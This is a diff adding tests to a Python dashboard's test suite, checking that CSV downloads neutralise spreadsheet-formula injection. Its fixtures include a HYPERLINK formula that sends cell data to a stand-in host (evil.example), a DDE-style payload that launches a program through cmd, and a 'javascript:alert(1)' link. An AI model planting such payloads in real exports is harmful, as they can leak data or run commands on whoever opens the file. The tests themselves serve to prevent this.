@@ -123,3 +123,37 @@ def test_a_report_heard_in_person_says_it_has_no_link():
     assert "không có liên kết" in note and "không mở được" not in note
     assert "không mở được" not in no_link_note("social", "urn:langnghe:import:abc")
     assert "không mở được" in no_link_note("social", "javascript:alert(1)")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem chi tiết")'
+
+
+@pytest.mark.parametrize("page", ["overview", "alerts", "explorer"])
+def test_tables_hold_no_spreadsheet_formula_for_their_csv_download(demo_env, page):
+    """Every table has a download button that writes its cells to CSV as they are: a post titled
+    '=HYPERLINK("http://…?"&A1,…)' became a live formula in Excel (CSV injection). Text cells that start
+    a formula now carry a leading apostrophe; numbers such as '+25%' stay as they are."""
+    from dashboard import ui
+
+    synth.add_item(demo_env.db, title=FORMULA, summary="@SUM(1+1)*cmd|' /C calc'!A0",
+                   url="https://www.facebook.com/groups/uongbi/posts/9")
+    import streamlit as st
+
+    st.cache_data.clear()
+    at = demo_env.page(page, "analyst").run()
+    no_exception(at)
+    cells = [v for df in at.dataframe for col in df.value.columns for v in df.value[col] if isinstance(v, str)]
+    assert cells and not [v for v in cells if re.match(r"[=@]", v)]
+    if page == "explorer":
+        assert "'" + FORMULA in cells
+    assert [ui.inert_cell(v) for v in ("+25%", "-3", "- Tin", "-1+A1", "\tx")] == ["+25%", "-3", "'- Tin", "'-1+A1", "'\tx"]
+
+
+def test_every_table_goes_through_ui_dataframe():
+    """A new st.dataframe call would skip the formula guard (ui.csv_safe)."""
+    from pathlib import Path
+
+    root = Path(__file__).resolve().parents[2] / "dashboard"
+    raw = [str(p.relative_to(root)) for p in root.rglob("*.py")
+           if p.name != "ui.py" and re.search(r"\bst\.(dataframe|data_editor)\(", p.read_text(encoding="utf-8"))]
+    assert raw == ["views/surveys.py"]  # the survey questionnaire editor: the file's own column names, edited
